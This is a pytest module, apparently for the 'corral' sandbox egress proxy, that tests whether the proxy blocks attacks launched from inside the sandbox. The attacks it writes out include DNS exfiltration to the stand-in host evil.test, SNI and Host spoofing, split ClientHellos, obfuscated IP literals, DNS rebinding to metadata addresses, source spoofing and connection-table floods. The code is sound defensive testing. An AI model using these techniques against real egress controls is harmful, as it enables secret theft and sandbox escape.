"""Real sandboxes (network namespaces) wired by NetworkManager, real clients inside, real upstreams in
another namespace at 198.18.0.0/24 (benchmarking range; nothing leaves the machine).

Each test runs the attack from inside and asserts both the refusal and the absence of side effects
(the upstream or the resolver saw nothing)."""

from __future__ import annotations

import contextlib
import json
import logging
import socket
import struct
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from corral.network.manager import NetworkManager
from corral.network.secrets import SecretStore
from corral.policy.network import (
    HeaderInjection,
    NetworkPlan,
    NetworkPolicy,
    PlaceholderInjection,
    SecretBinding,
    compile_network,
)
from tests.conftest import require
from tests.network.upstreams import EchoServer, FakeDNS, LoopThread, Namespace, UpstreamCA, run, upstream_network

pytestmark = pytest.mark.kernel

TOKEN = "ghp_" + "S3cr3tV4lu3" + uuid.uuid4().hex  # never may appear in any output below
API_KEY = "sk-" + uuid.uuid4().hex + "Zz"
ALLOWED, EVIL, CIDR_HOST, DNS_IP = "198.18.0.10", "198.18.0.11", "198.18.0.12", "198.18.0.53"
ZONE = {
    "allowed.test": [ALLOWED], "api.allowed.test": [ALLOWED], "ph.allowed.test": [ALLOWED],
    "blocked.allowed.test": [ALLOWED], "evil.test": [EVIL],
    "rebind.allowed.test": ["169.254.169.254"], "rebind2.allowed.test": ["10.0.0.1"],
    "v6.allowed.test": ["2001:db8::10"],
}
POLICY = NetworkPolicy(allow=["allowed.test", "*.allowed.test", "198.18.0.10/32", "198.18.0.12/32:8080"],
                       deny=["blocked.allowed.test"])
GH = SecretBinding(name="gh", hosts=("api.allowed.test",), injection=HeaderInjection(), env="GH_TOKEN")
PH = SecretBinding(name="ph", hosts=("ph.allowed.test",),
                   injection=PlaceholderInjection(headers=("X-Api-Key",)), env="PH_KEY")


class _Capture(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@dataclass
class Env:
    tmp: Path
    lt: LoopThread
    mgr: NetworkManager
    up: Namespace
    dns: FakeDNS
    echo: EchoServer
    sb: Namespace
    sb2: Namespace
    sid: str
    sid2: str
    plan: NetworkPlan
    env: dict[str, str]
    bundle: Path
    udp_seen: list[bytes]
    events: list[dict[str, Any]]
    outputs: list[str] = field(default_factory=list)

    def sh(self, ns: Namespace, args: list[str], timeout: float = 20) -> tuple[int, str]:
        r = ns.exec(args, timeout=timeout)
        out = r.stdout + r.stderr
        self.outputs.append(out)
        return r.returncode, out

    def curl(self, *args: str, ns: Namespace | None = None, proxy: bool = False) -> tuple[int, str]:
        """(HTTP status or 0, body+stderr)."""
        cmd = ["curl", "-sS", "--max-time", "8", "--cacert", str(self.bundle), "-w", "\n%{http_code}:%{http_connect}", "--noproxy", "*"]
        if proxy:
            cmd[-2:] = ["-x", self.env["HTTPS_PROXY"]]
        r = (ns or self.sb).exec([*cmd, *args], timeout=20)
        self.outputs.append(r.stdout + r.stderr)
        body, _, codes = r.stdout.rpartition("\n")
        body += r.stderr
        code, _, connect = codes.strip().partition(":")
        if connect.isdigit() and int(connect) >= 300:
            return int(connect), body
        return (int(code) if code.isdigit() else 0), body

    def py(self, code: str, ns: Namespace | None = None) -> tuple[int, str]:
        return self.sh(ns or self.sb, [sys.executable, "-c", code])

    def kinds(self, kind: str) -> list[dict[str, Any]]:
        return [e for e in self.events if e["kind"] == kind]


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    require("root")  # network namespaces, nftables
    tmp = tmp_path_factory.mktemp("egress")
    capture = _Capture()
    logging.getLogger("corral").addHandler(capture)
    logging.getLogger("corral").setLevel(logging.DEBUG)
    lt = LoopThread()
    ca = UpstreamCA(tmp)
    events: list[dict[str, Any]] = []
    udp_seen: list[bytes] = []
    udp_socks: list[socket.socket] = []
    with upstream_network([ALLOWED, EVIL, CIDR_HOST, DNS_IP]) as up:
        echo = EchoServer()
        fake = FakeDNS(ZONE)
        tls = ca.server_context(["allowed.test", "*.allowed.test", "evil.test"])

        async def serve() -> None:
            for ip in (ALLOWED, EVIL):
                await echo.serve(up.socket(socket.AF_INET, socket.SOCK_STREAM, (ip, 80)))
                await echo.serve(up.socket(socket.AF_INET, socket.SOCK_STREAM, (ip, 443)), tls)
            for port in (8080, 8081):
                await echo.serve(up.socket(socket.AF_INET, socket.SOCK_STREAM, (CIDR_HOST, port)))
            await fake.serve(up.socket(socket.AF_INET, socket.SOCK_DGRAM, (DNS_IP, 53)))
            udp = up.socket(socket.AF_INET, socket.SOCK_DGRAM, (ALLOWED, 9999))
            lt.loop.add_reader(udp.fileno(), lambda: udp_seen.append(udp.recv(2048)))
            udp_socks.append(udp)

        lt.run(serve())
        store = SecretStore(tmp / "secrets")
        store.set(GH, TOKEN)
        store.set(PH, API_KEY)
        mgr = NetworkManager(tmp / "state", secrets=store, on_event=events.append, nameservers=[(DNS_IP, 53)],
                             pool="10.201.0.0/24", upstream_ssl=ca.client_context(), table="corral_test",
                             veth_prefix="ctv-")
        bundle = tmp / "bundle.pem"
        sb = Namespace()
        sb2 = Namespace()
        sid, sid2 = "sb-nettest" + uuid.uuid4().hex[:6], "sb-nettest" + uuid.uuid4().hex[:6]
        try:
            lt.run(mgr.start())
            bundle.write_bytes(mgr.ca.ca_pem + ca.ca_path.read_bytes())
            plan = compile_network(POLICY, [GH, PH])
            env = lt.run(mgr.attach(sid, sb.pid, plan))
            lt.run(mgr.attach(sid2, sb2.pid, plan))
            e = Env(tmp, lt, mgr, up, fake, echo, sb, sb2, sid, sid2, plan, env, bundle, udp_seen, events)
            yield e
        finally:
            for s in (sid, sid2):
                try:
                    lt.run(mgr.detach(s))
                except Exception:
                    pass
            lt.run(mgr.stop(drop_table=True))
            lt.run(echo.close())

            async def close_udp() -> None:
                for u in udp_socks:
                    lt.loop.remove_reader(u.fileno())
                    u.close()
                if fake.transport is not None:
                    fake.transport.close()

            lt.run(close_udp())
            sb.close()
            sb2.close()
            lt.close()
            logging.getLogger("corral").removeHandler(capture)
            # The last check of the module: no secret value anywhere we could capture.
            everything = "\n".join([*capture.lines, *(json.dumps(ev) for ev in events)])
            assert TOKEN not in everything and API_KEY not in everything
    assert not run(["ip", "-o", "link", "show"]).stdout.count("ctv-")
    assert run(["nft", "list", "table", "inet", "corral_test"], check=False).returncode != 0


# ------------------------------------------------------------------------------------------ basics


def test_wiring_and_env(net: Env) -> None:
    n = net.mgr.net(net.sid)
    assert n.ip.startswith("10.201.0.") and n.gateway.startswith("10.201.0.")
    assert net.env["HTTPS_PROXY"].startswith(f"http://{n.gateway}:")
    for var in ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO", "CURL_CA_BUNDLE"):
        assert net.env[var] == "/etc/corral/ca.pem"
    assert net.env["GH_TOKEN"].startswith("corral-placeholder-gh-") and TOKEN not in json.dumps(net.env)
    # No IPv6 inside: no address but loopback's, no route.
    _, out = net.sh(net.sb, ["ip", "-6", "route", "show"])
    assert "default" not in out
    _, out = net.sh(net.sb, ["ip", "-6", "addr", "show", "dev", "eth0"])
    assert "inet6" not in out


def test_allowed_https_passes_through_transparently(net: Env) -> None:
    code, body = net.curl("https://allowed.test/hello")
    assert code == 200, body
    assert json.loads(body)["host"] == "allowed.test"
    ev = [e for e in net.kinds("net.connect") if e["destination"] == "allowed.test" and e["mode"] == "transparent"]
    assert ev and ev[-1]["tls"] == "passthrough" and ev[-1]["rule"] == "allowed.test"


def test_allowed_through_explicit_proxy(net: Env) -> None:
    assert net.curl("https://allowed.test/x", proxy=True)[0] == 200
    assert net.curl("http://allowed.test/y", proxy=True)[0] == 200
    assert net.curl("http://allowed.test/z")[0] == 200  # transparent plain HTTP
    closes = [e for e in net.kinds("net.close") if e["destination"] == "allowed.test"]
    assert closes and all(e["bytes_down"] > 0 and e["bytes_up"] > 0 for e in closes)


def test_cidr_rule_and_ports(net: Env) -> None:
    assert net.curl(f"http://{CIDR_HOST}:8080/")[0] == 200
    before = len(net.echo.seen)
    code, _ = net.curl(f"http://{CIDR_HOST}:8081/")
    assert code != 200
    code, body = net.curl(f"http://{CIDR_HOST}:8081/", proxy=True)
    assert code == 403 and "not in an allowed network" in body
    assert net.curl(f"https://{CIDR_HOST}:8081/", proxy=True)[0] == 403
    code, body = net.curl("https://allowed.test:8443/", proxy=True)
    assert code == 403
    assert len(net.echo.seen) == before


# ------------------------------------------------------------------------------------------ denials


def test_denied_names_are_not_resolved_or_forwarded(net: Env) -> None:
    secret_label = "exfil" + uuid.uuid4().hex[:12]
    for name in (f"{secret_label}.evil.test", "evil.test", "blocked.allowed.test"):
        rc, _ = net.sh(net.sb, ["getent", "ahostsv4", name])
        assert rc != 0
    assert net.curl("https://evil.test/")[0] == 0
    assert net.curl("https://evil.test/", proxy=True)[0] == 403
    assert net.curl("http://evil.test/", proxy=True)[1].startswith("corral egress: evil.test is not in the allow list")
    assert net.curl("https://blocked.allowed.test/", proxy=True)[0] == 403
    assert [e for e in net.kinds("net.deny") if e["reason"] == "blocked.allowed.test is denied by 'blocked.allowed.test'"]
    assert not [q for q in net.dns.queries if "evil" in q or "blocked" in q or secret_label in q]
    assert not [s for s in net.echo.seen if s.host.startswith("evil") or s.host.startswith("blocked")]
    assert [e for e in net.kinds("dns.deny") if secret_label in e["destination"]]
    # A resolver other than ours is no way out: UDP/53 to anywhere lands on our responder.
    code, out = net.py(
        "import socket,sys\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(3)\n"
        f"q=bytes.fromhex('abcd01000001000000000000')+b''.join(bytes([len(p)])+p.encode() for p in '{secret_label}.x.evil.test'.split('.'))+b'\\x00\\x00\\x01\\x00\\x01'\n"
        f"s.sendto(q,('{DNS_IP}',53));r=s.recv(512);print('rcode',r[3]&15)")
    assert "rcode 3" in out, out
    assert not [q for q in net.dns.queries if secret_label in q]


def test_ip_literals_and_odd_spellings_are_denied(net: Env) -> None:
    before = len(net.echo.seen)
    dec = str(struct.unpack("!I", socket.inet_aton(EVIL))[0])
    for url in (f"http://{EVIL}/", f"http://{dec}/", "http://0xc6.0x12.0.11/", "http://0306.022.0.013/",
                f"https://{EVIL}/"):
        assert net.curl(url)[0] in (0, 403), url  # plain HTTP gets the proxy's 403, TLS a closed connection
    for target in (f"{EVIL}:443", f"[::ffff:{EVIL}]:443", f"{dec}:443", "0xc6.0x12.0.11:443", "[2001:db8::10]:443",
                   "169.254.169.254:80", "[fd00:ec2::254]:80", "100.100.100.200:80"):
        code, out = net.py(_connect_via_proxy(net, target))
        assert "403" in out, (target, out)
    # IPv6 straight from the sandbox: no address, no route.
    code, out = net.py("import socket\ntry:\n socket.create_connection(('2001:db8::10',80),timeout=2)\n"
                       "except OSError as e: print('refused',e.errno)")
    assert "refused" in out
    assert len(net.echo.seen) == before


def _connect_via_proxy(net: Env, target: str, sni: str | None = None, request: str | None = None) -> str:
    gw, port = net.env["HTTPS_PROXY"][7:].rsplit(":", 1)
    code = (
        "import socket,ssl\n"
        f"s=socket.create_connection(('{gw}',{port}),timeout=5)\n"
        f"s.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')\n"
        "r=s.recv(4096).decode();print(r.split('\\r\\n')[0])\n"
    )
    if sni:
        code += (
            "try:\n"
            f" c=ssl.create_default_context(cafile='{net.bundle}');t=c.wrap_socket(s,server_hostname='{sni}')\n"
            f" t.sendall(b'{request or 'GET / HTTP/1.1' + chr(92) + 'r' + chr(92) + 'nHost: ' + sni}\\r\\n\\r\\n');print('GOT',t.recv(4096)[:40])\n"
            "except Exception as e: print('TLSFAIL',type(e).__name__)\n"
        )
    return code


def test_sni_and_host_must_agree(net: Env) -> None:
    before = len([s for s in net.echo.seen if s.host == "evil.test"])
    _, out = net.py(_connect_via_proxy(net, "allowed.test:443", sni="evil.test"))
    assert "200" in out and "TLSFAIL" in out, out
    assert [e for e in net.kinds("net.deny") if "SNI evil.test does not match allowed.test" in e.get("reason", "")]
    # Transparent: TLS to the allowed address with SNI evil.test is decided on evil.test: denied.
    _, out = net.py("import socket,ssl\n"
                    f"s=socket.create_connection(('{ALLOWED}',443),timeout=5)\n"
                    f"c=ssl.create_default_context(cafile='{net.bundle}')\n"
                    "try:\n t=c.wrap_socket(s,server_hostname='evil.test');print('CONNECTED')\n"
                    "except Exception as e: print('TLSFAIL',type(e).__name__)")
    assert "TLSFAIL" in out
    # Absolute-form with a different Host header, and Host spoofing inside a CONNECT tunnel.
    gw, port = net.env["HTTPS_PROXY"][7:].rsplit(":", 1)
    _, out = net.py("import socket\n"
                    f"s=socket.create_connection(('{gw}',{port}),timeout=5)\n"
                    "s.sendall(b'GET http://allowed.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
                    "print(s.recv(4096).decode().split('\\r\\n')[0])")
    assert "403" in out
    _, out = net.py("import socket\n"
                    f"s=socket.create_connection(('{gw}',{port}),timeout=5)\n"
                    "s.sendall(b'CONNECT allowed.test:80 HTTP/1.1\\r\\n\\r\\n');s.recv(4096)\n"
                    "s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')\n"
                    "print(s.recv(4096).decode().split('\\r\\n')[0])")
    assert "403" in out
    # Brokered: the Host inside the terminated TLS must be the bound host.
    _, out = net.py(_connect_via_proxy(net, "api.allowed.test:443", sni="api.allowed.test",
                                       request="GET / HTTP/1.1\\r\\nHost: evil.test"))
    assert "GOT b'HTTP/1.1 421" in out, out
    assert len([s for s in net.echo.seen if s.host == "evil.test"]) == before


def test_a_clienthello_split_or_held_back_cannot_hide_its_sni(net: Env) -> None:
    """The SNI check reads the ClientHello even when it is split over several TLS records (legal
    fragmentation), and a TLS connection whose ClientHello never completes is refused, not spliced
    unchecked: CONNECT to an allowed host with a hidden SNI for a denied one gets nowhere."""
    gw, port = net.env["HTTPS_PROXY"][7:].rsplit(":", 1)
    before = len([s for s in net.echo.seen if s.host == "evil.test"])
    code = (
        "import socket,ssl,time\n"
        "def hello(name):\n"
        "    i,o=ssl.MemoryBIO(),ssl.MemoryBIO()\n"
        "    obj=ssl.create_default_context().wrap_bio(i,o,server_hostname=name)\n"
        "    try: obj.do_handshake()\n"
        "    except ssl.SSLWantReadError: pass\n"
        "    return o.read()\n"
        "h=hello('evil.test'); body=h[5:]\n"
        "split=b''.join(b'\\x16\\x03\\x01'+len(body[k:k+40]).to_bytes(2,'big')+body[k:k+40] for k in range(0,len(body),40))\n"
        "for label,first in (('split',split),('held',h[:3])):\n"
        f"    s=socket.create_connection(('{gw}',{port}),timeout=5)\n"
        "    s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\n\\r\\n'); s.recv(4096)\n"
        "    s.sendall(first)\n"
        "    s.settimeout(3)\n"
        "    try: d=s.recv(4096); print(label,'closed' if not d else 'DATA')\n"
        "    except Exception as e: print(label,type(e).__name__)\n"
    )
    _, out = net.py(code)
    assert "DATA" not in out and out.count("closed") + out.count("ConnectionResetError") == 2, out
    reasons = [e.get("reason", "") for e in net.kinds("net.deny")]
    assert any("SNI evil.test does not match allowed.test" in r for r in reasons), reasons[-5:]
    assert any("incomplete TLS ClientHello" in r for r in reasons), reasons[-5:]
    assert len([s for s in net.echo.seen if s.host == "evil.test"]) == before


def test_dns_rebinding_to_private_addresses_is_denied(net: Env) -> None:
    for name in ("rebind.allowed.test", "rebind2.allowed.test"):
        rc, _ = net.sh(net.sb, ["getent", "ahostsv4", name])
        assert rc != 0  # the private answer is dropped
        code, body = net.curl(f"http://{name}/", proxy=True)
        assert code == 403 and "private or special range" in body, body
        assert net.curl(f"https://{name}/", proxy=True)[0] == 403


def test_host_services_and_other_sandboxes_are_unreachable(net: Env) -> None:
    accepted: list[str] = []
    listeners = []
    for addr in ("127.0.0.1", "0.0.0.0"):
        ls = socket.socket()
        ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        ls.bind((addr, 0))
        ls.listen(8)
        ls.settimeout(0.2)
        listeners.append(ls)
    stop = threading.Event()

    def acceptor() -> None:
        while not stop.is_set():
            for ls in listeners:
                try:
                    c, a = ls.accept()
                    accepted.append(str(a))
                    c.close()
                except OSError:
                    pass

    t = threading.Thread(target=acceptor)
    t.start()
    sb2_listener = net.sb2.popen([sys.executable, "-c",
                                  "import socket\ns=socket.socket();s.bind(('0.0.0.0',8000));s.listen(1);s.settimeout(8)\n"
                                  "try:\n c,a=s.accept();print('ACCEPTED',a)\nexcept OSError: print('NONE')"])
    try:
        gw = net.mgr.net(net.sid).gateway
        other = net.mgr.net(net.sid2)
        targets = [(gw, listeners[0].getsockname()[1]), (gw, listeners[1].getsockname()[1]), (gw, 22),
                   (other.ip, 8000), (other.gateway, listeners[1].getsockname()[1]), ("127.0.0.1", 1)]
        proxy_port = int(net.env["HTTPS_PROXY"].rsplit(":", 1)[1])
        for host, port in targets:
            _, out = net.py("import socket\ntry:\n"
                            f" s=socket.create_connection(('{host}',{port}),timeout=3)\n"
                            " s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n');print('DATA',s.recv(100))\n"
                            "except OSError as e: print('FAIL',e)")
            assert "DATA b''" in out or "FAIL" in out or "DATA b'HTTP/1.1 40" in out, (host, port, out)
        # The proxy itself is reachable (it is the only thing): but not to dial Corral's own pool.
        code, body = net.curl(f"http://{other.ip}:8000/", proxy=True)
        assert code == 403
        code, body = net.curl(f"http://{gw}:{proxy_port}/")
        assert code in (0, 400, 403)
    finally:
        stop.set()
        t.join()
        out2, _ = sb2_listener.communicate(timeout=15)
        for ls in listeners:
            ls.close()
    assert accepted == []
    assert "NONE" in out2


def test_udp_and_icmp_go_nowhere(net: Env) -> None:
    gw = net.mgr.net(net.sid).gateway
    _, out = net.py("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                    f"for a in [('{ALLOWED}',9999),('{gw}',9999),('{ALLOWED}',443)]:\n"
                    "  try: s.sendto(b'leak',a)\n  except OSError as e: print('sendfail',e)\nprint('sent')")
    assert "sent" in out
    # ICMP echo to the upstream (which would answer) and to the gateway: no reply.
    _, out = net.py("import socket,struct,time\n"
                    "def csum(b):\n s=sum(struct.unpack('!%dH'%(len(b)//2),b));s=(s>>16)+(s&0xffff);s+=s>>16;return ~s&0xffff\n"
                    "p=struct.pack('!BBHHH',8,0,0,1,1)+b'corral'\np=p[:2]+struct.pack('!H',csum(p))+p[4:]\n"
                    "r=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP);r.settimeout(1.5)\n"
                    f"for a in ['{ALLOWED}','{gw}']:\n"
                    "  r.sendto(p,(a,0))\n"
                    "  try: d,_=r.recvfrom(1024);print('REPLY',a,d[20])\n  except OSError: print('noreply',a)")
    assert "REPLY" not in out and out.count("noreply") == 2, out
    time.sleep(0.3)
    assert net.udp_seen == []


# ------------------------------------------------------------------------------------------ secrets


def _auth_seen(net: Env, host: str, since: int) -> list[str]:
    return [s.headers.get("authorization", "") for s in net.echo.seen[since:] if s.host.split(":")[0] == host]


def test_token_injected_for_bound_host_only(net: Env) -> None:
    ph = net.env["GH_TOKEN"]
    since = len(net.echo.seen)
    code, body = net.curl("https://api.allowed.test/whoami", "-H", f"Authorization: Bearer {ph}")
    assert code == 200, body
    assert _auth_seen(net, "api.allowed.test", since) == [f"Bearer {TOKEN}"]
    # The upstream reflected the header; the sandbox got it redacted.
    assert TOKEN not in body and '"authorization": "*****' in body
    uses = [e for e in net.kinds("secret.use") if e["destination"] == "api.allowed.test"]
    assert uses and uses[-1]["secret"] == "gh"
    # Through the explicit proxy too, and with no header at all from the client.
    since = len(net.echo.seen)
    code, body = net.curl("https://api.allowed.test/again", proxy=True)
    assert code == 200 and TOKEN not in body
    assert _auth_seen(net, "api.allowed.test", since) == [f"Bearer {TOKEN}"]
    # Everywhere else the placeholder stays a placeholder.
    since = len(net.echo.seen)
    for url in ("https://allowed.test/", "http://allowed.test/", "http://api.allowed.test/"):
        code, body = net.curl(url, "-H", f"Authorization: Bearer {ph}")
        assert code == 200
    seen = [s.headers.get("authorization") for s in net.echo.seen[since:]]
    assert seen == [f"Bearer {ph}"] * 3
    misuse = [e for e in net.kinds("secret.placeholder_misuse") if e["secret"] == "gh"]
    assert {e["destination"] for e in misuse} >= {"allowed.test", "api.allowed.test"}


def test_brokered_requests_ask_for_an_unencoded_whole_response_with_the_checked_host(net: Env) -> None:
    """The response of a brokered request is scanned for the credential: a gzip-encoded or ranged
    echo of it would pass the scan, so the proxy asks for identity encoding and drops Range. The
    Host header upstream is rebuilt from the authority the policy decided on (case, trailing dot)."""
    since = len(net.echo.seen)
    code, body = net.curl("https://api.allowed.test/enc", "-H", "Accept-Encoding: gzip, br", "-H", "Range: bytes=5-9",
                          "-H", "If-Range: x", "-H", "Host: API.Allowed.TEST.")
    assert code == 200, body
    seen = net.echo.seen[since:]
    assert [s.headers.get("accept-encoding") for s in seen] == ["identity"]
    assert "range" not in seen[0].headers and "if-range" not in seen[0].headers
    assert seen[0].headers["host"] == "api.allowed.test"
    # Not brokered (no credential to protect): the client's headers go as they are.
    since = len(net.echo.seen)
    assert net.curl("http://allowed.test/plain", "-H", "Accept-Encoding: gzip")[0] == 200
    assert net.echo.seen[since].headers.get("accept-encoding") == "gzip"


def test_placeholder_substitution_only_in_declared_headers(net: Env) -> None:
    ph = net.env["PH_KEY"]
    since = len(net.echo.seen)
    code, body = net.curl(f"https://ph.allowed.test/q?key={ph}", "-H", f"X-Api-Key: {ph}", "-H", f"X-Other: {ph}",
                          "-H", f"Cookie: k={ph}")
    assert code == 200
    s = net.echo.seen[since]
    assert s.headers["x-api-key"] == API_KEY
    assert s.headers["x-other"] == ph and s.headers["cookie"] == f"k={ph}" and ph in s.path
    assert API_KEY not in body
    wheres = {e["where"] for e in net.kinds("secret.placeholder_misuse") if e["secret"] == "ph"}
    assert {"header X-Other", "header Cookie", "request-target"} <= wheres
    # The placeholder of another secret is never swapped on this host either.
    since = len(net.echo.seen)
    net.curl("https://ph.allowed.test/", "-H", f"X-Api-Key: {net.env['GH_TOKEN']}")
    assert net.echo.seen[since].headers["x-api-key"] == net.env["GH_TOKEN"]


def test_redirect_to_another_host_carries_no_credential(net: Env) -> None:
    since = len(net.echo.seen)
    code, body = net.curl("-L", "https://api.allowed.test/redirect?to=https://allowed.test/landing")
    assert code == 200, body
    hops = net.echo.seen[since:]
    assert [h.host for h in hops] == ["api.allowed.test", "allowed.test"]
    assert hops[0].headers["authorization"] == f"Bearer {TOKEN}"
    assert "authorization" not in hops[1].headers
    # A client that replays the header across the redirect only replays the placeholder.
    since = len(net.echo.seen)
    net.curl("-L", "--location-trusted", "-H", f"Authorization: Bearer {net.env['GH_TOKEN']}",
             "https://api.allowed.test/redirect?to=https://allowed.test/landing")
    hops = net.echo.seen[since:]
    assert hops[1].headers["authorization"] == f"Bearer {net.env['GH_TOKEN']}"


def test_h2_is_not_offered_on_brokered_hosts(net: Env) -> None:
    _, out = net.sh(net.sb, ["curl", "-sS", "--http2", "-o", "/dev/null", "-w", "%{http_version}", "--cacert",
                             str(net.bundle), "https://api.allowed.test/"])
    assert out.strip().endswith("1.1")


# ------------------------------------------------------------------------------------------ live policy


def test_live_policy_update(net: Env) -> None:
    narrowed = compile_network(NetworkPolicy(allow=["api.allowed.test", "198.18.0.10/32"]), [GH, PH])
    net.mgr.update(net.sid, narrowed)
    try:
        assert net.curl("https://allowed.test/", proxy=True)[0] == 403
        assert net.curl("https://api.allowed.test/")[0] == 200
        assert net.curl("https://allowed.test/", ns=net.sb2)[0] == 200  # the other sandbox is unchanged
    finally:
        net.mgr.update(net.sid, net.plan)
    assert net.curl("https://allowed.test/", proxy=True)[0] == 200


def test_outputs_never_contain_secret_values(net: Env) -> None:
    everything = "\n".join([*net.outputs, *(json.dumps(e) for e in net.events)])
    assert TOKEN not in everything and API_KEY not in everything
    assert net.events  # there were events to scan


def test_detach_and_orphan_cleanup(net: Env) -> None:
    host = net.mgr.host
    assert host is not None
    # An orphan: a veth of ours the table knows of but no attached sandbox (a daemon crash).
    extra = Namespace()
    try:
        orphan = host.setup("sb-orphan" + uuid.uuid4().hex[:6], extra.pid)
        host._nets.pop(orphan.sandbox_id)  # forget it, as a restarted daemon would have
        removed = host.cleanup_orphans()
        assert removed == [orphan.veth_host]
        assert orphan.veth_host not in run(["ip", "-o", "link", "show"]).stdout
        table = run(["nft", "list", "table", "inet", "corral_test"]).stdout
        assert orphan.veth_host not in table and net.mgr.net(net.sid).veth_host in table
    finally:
        extra.close()
    assert net.curl("https://allowed.test/")[0] == 200  # attached sandboxes untouched


def test_host_process_cannot_pass_for_a_sandbox(net: Env) -> None:
    """The proxy knows sandboxes by source address: a host process that binds a sandbox's address with
    IP_FREEBIND and connects over loopback gets nowhere (nftables drops a pool source on any other
    interface, and the replies would be routed to the sandbox's veth anyway)."""
    ip = net.mgr.net(net.sid).ip
    assert net.mgr.proxy.address is not None
    s = socket.socket()
    try:
        s.setsockopt(socket.SOL_IP, 15, 1)  # IP_FREEBIND
        s.bind((ip, 0))
        s.settimeout(2)
        with pytest.raises(OSError):
            s.connect(net.mgr.proxy.address)
    finally:
        s.close()


def test_one_sandbox_cannot_fill_the_hosts_connection_table(net: Env) -> None:
    """Every UDP/53 packet to a new address takes a connection-tracking entry on the host (the
    table all of the host's traffic shares). A sandbox spraying them is capped at its own quota
    (CONNTRACK_PER_SANDBOX): its further new flows are dropped, other sandboxes are untouched."""
    from corral.network.netns import CONNTRACK_PER_SANDBOX

    host = net.mgr.host
    assert host is not None and host.conntrack_max == CONNTRACK_PER_SANDBOX
    extra = Namespace()
    sid = "sb-ctfill" + uuid.uuid4().hex[:6]
    try:
        net.lt.run(net.mgr.attach(sid, extra.pid, net.plan))
        n = CONNTRACK_PER_SANDBOX + 600
        code = ("import socket,struct,time\n"
                "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.setblocking(False)\n"
                "q=b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x04test\\x00\\x00\\x01\\x00\\x01'\n"
                f"for i in range({n}):\n"
                "    s.sendto(q, ('198.51.%d.%d' % (i // 250, 1 + i % 250), 53))\n"
                "got=0; end=time.monotonic()+3\n"
                "while time.monotonic()<end:\n"
                "    try: s.recv(512); got+=1\n"
                "    except BlockingIOError: time.sleep(0.01)\n"
                "print('answers', got)\n"
                "t=socket.socket(); t.settimeout(2)\n"
                f"try: t.connect(('{ALLOWED}', 80)); print('tcp ok')\n"
                "except OSError as e: print('tcp refused', type(e).__name__)\n")
        _, out = net.sh(extra, [sys.executable, "-c", code], timeout=30)
        answers = int(out.split("answers ")[1].split()[0])
        assert 0 < answers <= CONNTRACK_PER_SANDBOX, out  # the rest were dropped before taking an entry
        assert "tcp refused" in out, out  # its own new flows stop at its quota
        assert net.curl("https://allowed.test/ct")[0] == 200  # another sandbox is untouched
    finally:
        with contextlib.suppress(Exception):
            net.lt.run(net.mgr.detach(sid))
        extra.close()


def test_a_dns_flood_is_rate_limited_and_summarised(net: Env) -> None:
    """Each refused query was an audit record and each allowed one an upstream query: a sandbox's
    queries are rate-limited (QUERIES_PER_S, burst QUERY_BURST); what is dropped is reported once a
    second, not per query, and the sandbox resolves again once it slows down."""
    from corral.network.dns import QUERIES_PER_S, QUERY_BURST

    gw = net.mgr.net(net.sid2).gateway
    before = len(net.events)
    code = ("import socket,time\n"
            "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
            "q=b'\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01'\n"
            "t=time.monotonic()\n"
            f"for i in range(3000):\n    s.sendto(q, ('{gw}', 53))\n    if i % 20 == 0: time.sleep(0.002)\n"
            "print('sent in', round(time.monotonic()-t, 3))\n")
    _, out = net.sh(net.sb2, [sys.executable, "-c", code])
    elapsed = float(out.split("sent in ")[1].split()[0])
    time.sleep(1.5)
    mine = [e for e in net.events[before:] if e.get("sandbox_id") == net.sid2 and e["kind"] == "dns.deny"]
    per_query = [e for e in mine if e.get("destination") == "evil.test"]
    summaries = [e for e in mine if "queries dropped" in e.get("reason", "")]
    assert 0 < len(per_query) <= QUERY_BURST + QUERIES_PER_S * (elapsed + 1.6) + 64, (len(per_query), elapsed)
    assert summaries, (len(per_query), elapsed, mine[-1:])
    time.sleep(2.5)  # the bucket refills
    rc, out = net.sh(net.sb2, ["getent", "hosts", "allowed.test"])
    assert rc == 0 and ALLOWED in out, out


def test_a_local_process_on_the_freed_proxy_ports_receives_nothing(net: Env) -> None:
    """While the daemon is down the rules stay (sandboxes keep running, unwired from nothing): a
    local process that binds the freed proxy or DNS port must not receive the sandboxes' connections
    and queries. The rules accept only for sockets bearing Corral's SO_MARK (CAP_NET_ADMIN to set)."""
    from corral.network.netns import SOCKET_MARK

    assert net.mgr.proxy.address is not None and net.mgr.dns.address is not None
    paddr, daddr = net.mgr.proxy.address, net.mgr.dns.address
    net.lt.run(net.mgr.proxy.stop())
    net.lt.run(net.mgr.dns.stop())
    tcp = socket.socket()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        tcp.bind(paddr)
        tcp.listen(16)
        udp.bind(daddr)
        _, out = net.py("import socket\n"
                        "s=socket.socket(); s.settimeout(2)\n"
                        f"try: s.connect(('{ALLOWED}', 80)); print('CONNECTED')\n"
                        "except OSError as e: print('tcp', type(e).__name__)\n"
